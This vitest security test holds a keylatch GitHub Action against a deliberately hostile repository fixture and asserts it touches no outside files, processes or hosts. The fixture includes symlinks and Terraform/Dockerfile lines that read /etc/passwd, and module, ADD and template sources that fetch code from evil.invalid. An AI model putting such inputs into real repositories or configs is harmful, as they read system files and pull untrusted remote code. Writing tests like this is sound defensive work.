import { mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, dirname, join, sep } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type ActionOutcome, action, DIST } from '../support/dist.ts'
import { addUserKey, makeCloud, ROLE_ARN } from '../support/loopback/cloud.ts'
import { startGithub } from '../support/loopback/github.ts'
import { startIam } from '../support/loopback/iam.ts'
import { startOidc } from '../support/loopback/oidc.ts'
import { startSts } from '../support/loopback/sts.ts'
import { Repository } from '../support/repository.ts'
import { pullRequest } from './support/events.ts'
import { SLUG, serve } from './support/server.ts'

/**
 * What SECURITY.md promises about what the Action opens, held against a run that does all it can: a shallow checkout of a
 * hostile repository, a leaked key to look up, every channel.
 */
const TRACER = pathToFileURL(join(import.meta.dirname, '../support/tracer.mjs')).href
const log = join(mkdtempSync(join(tmpdir(), 'keylatch-trace-')), 'trace')
const history = new Repository()
const closers: (() => unknown)[] = [() => history.dispose(), () => rmSync(dirname(log), { recursive: true })]
let run: ActionOutcome
let workspace: string
let hosts: string[]
let trace: [kind: string, what: string][]

beforeAll(async () => {
  const cloud = makeCloud()
  const key = addUserKey(cloud, 'deploy', {
    lastUsed: { date: '2026-11-03T10:00:00Z', service: 's3', region: 'eu-west-1' },
  })
  const base = history.commit('base', { 'README.md': '# shop\n', '.keylatch.yml': 'fail-on: high\n' })
  history.git('checkout', '-q', '-b', 'feature')
  history.link('passwd', '/etc/passwd')
  history.link('up', '../..')
  const head = history.commit('leak', {
    'deploy.env': `AWS_ACCESS_KEY_ID=${key.id}\nAWS_SECRET_ACCESS_KEY=${key.secret}\n`,
    'main.tf': `locals {\n  a = file("/etc/passwd")\n  b = file("../../../../etc/hostname")\n}\nmodule "m" {\n  source = "/usr/share"\n}\nmodule "n" {\n  source = "git::https://evil.invalid/m.git"\n}\n`,
    Dockerfile: 'FROM scratch\nADD https://evil.invalid/x /x\nCOPY ../../../etc/passwd /\n',
    '.gitattributes': '* filter=evil diff=evil\n',
    'template.yaml':
      'Resources:\n  A:\n    Type: AWS::CloudFormation::Stack\n    Properties: { TemplateURL: "https://evil.invalid/t.yaml" }\n',
  })
  history.git('update-ref', 'refs/pull/7/head', head)
  const server = serve(history)
  workspace = realpathSync(server.checkout('refs/heads/feature'))
  const github = await startGithub(server.directory, { slug: SLUG })
  github.addPull('main', 'feature', { number: 7 })
  const oidc = await startOidc()
  const [sts, iam] = [await startSts(cloud, oidc.publicKey), await startIam(cloud)]
  closers.push(() => server.dispose(), ...[github, oidc, sts, iam].map((one) => () => one.close()))
  const event = pullRequest(base, head)
  const env = {
    ...event.env,
    ...github.env,
    ...oidc.env,
    GITHUB_API_URL: `${github.url}/api/v3`,
    GITHUB_SERVER_URL: server.url,
    GITHUB_REPOSITORY: SLUG,
    AWS_ENDPOINT_URL_STS: sts.url,
    AWS_ENDPOINT_URL_IAM: iam.url,
    NODE_OPTIONS: `--import=${TRACER}`,
    KEYLATCH_TRACE: log,
  }
  run = await action(
    workspace,
    { ...event, env },
    {
      'github-token': github.token,
      'role-to-assume': ROLE_ARN,
      'aws-region': 'eu-west-1',
      'html-file': 'report.html',
    },
    { apart: true },
  )
  hosts = [github, oidc, sts, iam].map(({ url }) => new URL(url).host)
  trace = readFileSync(log, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as [string, string])
}, 120_000)
afterAll(async () => {
  for (const close of closers.reverse()) await close()
})

const of = (...kinds: string[]) => [...new Set(trace.filter(([kind]) => kinds.includes(kind)).map(([, what]) => what))]
const isIn = (folder: string) => (path: string) => path === folder || path.startsWith(folder + sep)

test('the run did all of it: the key was looked up, and every channel was told', () => {
  expect(run).toMatchObject({ exitCode: 1, stderr: '' })
  expect(run.everything).toContain('a key of user `deploy`')
  expect(of('connect').length).toBeGreaterThanOrEqual(3)
  expect(trace.length).toBeGreaterThan(50)
})

describe('it opens', () => {
  const temporary = (path: string) => isIn(realpathSync(tmpdir()))(path) || isIn(tmpdir())(path)
  const own = (path: string) => isIn(workspace)(path) || isIn(DIST)(path) || (temporary(path) && /keylatch-/.test(path))

  test('no file but those of the checkout, of the run, and of itself', () => {
    // The SDK looks for a region and an endpoint there, as every tool of AWS does.
    const ofSdk = (path: string) => /[\\/]\.aws[\\/](config|credentials)$/.test(path)
    expect(of('read', 'open', 'write').filter((path) => !own(path) && !ofSdk(path))).toEqual([])
    expect(of('write').filter(ofSdk)).toEqual([])
  })

  test('nothing of the checkout to write it, but the report that was asked for', () => {
    const written = of('write').filter(isIn(workspace))
    expect(written.filter((path) => !/^report\.html|^\.?keylatch/.test(basename(path)))).toEqual([])
  })

  test('it looks elsewhere only for a .git above the checkout, and for git itself', () => {
    const elsewhere = of('look').filter((path) => !own(path))
    const above = (path: string) => isIn(dirname(path) === sep ? '' : dirname(path))(workspace) || path === sep
    expect(elsewhere.filter((path) => !above(path) && !/(^|[\\/])git(\.exe)?$/.test(path))).toEqual([])
  })

  test('no process but git', () => {
    expect(of('start').filter((program) => !/^git(\.exe)?$/.test(basename(program)))).toEqual([])
    expect(of('start')).not.toEqual([])
  })

  test('no connection but to the GitHub and AWS of the run', () => {
    const known = new Set(hosts.flatMap((host) => [host, host.replace('127.0.0.1', 'localhost')]))
    expect(of('connect').filter((host) => !known.has(host))).toEqual([])
    expect(of('listen')).toEqual([])
    expect(of('resolve').filter((name) => !/^(127\.0\.0\.1|localhost)$/.test(name))).toEqual([])
  })
})
